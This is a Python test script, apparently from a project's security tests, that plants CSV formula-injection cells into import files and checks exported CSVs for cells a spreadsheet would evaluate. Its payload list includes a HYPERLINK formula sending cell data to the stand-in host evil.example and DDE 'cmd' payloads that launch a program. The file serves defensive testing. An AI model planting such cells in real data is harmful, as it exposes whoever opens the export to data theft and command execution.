"""Somebody whose words reach a list (a note, a name, a CRM's reference) wants them run by whoever opens an export.

``--plant`` writes three files of hostile cells for ``dialgate objection import``, ``consent import`` and ``contacts
import``; without it the named files are read as a spreadsheet reads them, and one line of JSON tells ``cells`` (how
many there are) and ``evaluated`` (those that it would run)::

    python -m tests.attack.csv_cells --plant FOLDER
    python -m tests.attack.csv_cells objections.csv changes.csv
"""

from __future__ import annotations

import argparse
import csv
import json
import re
import sys
from collections.abc import Sequence
from pathlib import Path

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"OK")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)
LISTED = "02079460101"


def main(arguments: Sequence[str] | None = None) -> int:
    """Plant cells, or look for them."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--plant", type=Path)
    parser.add_argument("files", nargs="*", type=Path)
    asked = parser.parse_args(arguments)
    if asked.plant:
        _plant(asked.plant)
        return 0
    cells = [cell for path in asked.files for row in _rows(path) for cell in row]
    print(json.dumps({"cells": len(cells), "evaluated": [cell for cell in cells if _evaluated(cell)]}))
    return 0


def _plant(folder: Path) -> None:
    numbers = [f"020794601{place:02d}" for place in range(40, 40 + len(HOSTILE))]
    _write(
        folder / "objections.csv",
        ["number", "made_at", "source", "note"],
        [[number, "2026-01-02", text, text] for number, text in zip(numbers, HOSTILE, strict=True)],
    )
    _write(
        folder / "consents.csv",
        ["number", "given_at", "how", "wording", "who", "evidence"],
        [[number, "2026-01-02", *[text] * 4] for number, text in zip(numbers, HOSTILE, strict=True)],
    )
    _write(folder / "contacts.csv", ["id", "phone"], [[text, LISTED] for text in HOSTILE])


def _write(path: Path, head: list[str], rows: list[list[str]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows([head, *rows])


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8-sig") as file:
        return list(csv.reader(file))


def _evaluated(cell: str) -> bool:
    """A spreadsheet takes it for more than text or a number."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")) and not re.fullmatch(
        r"[+-][0-9]+", cell
    )


if __name__ == "__main__":
    sys.exit(main())
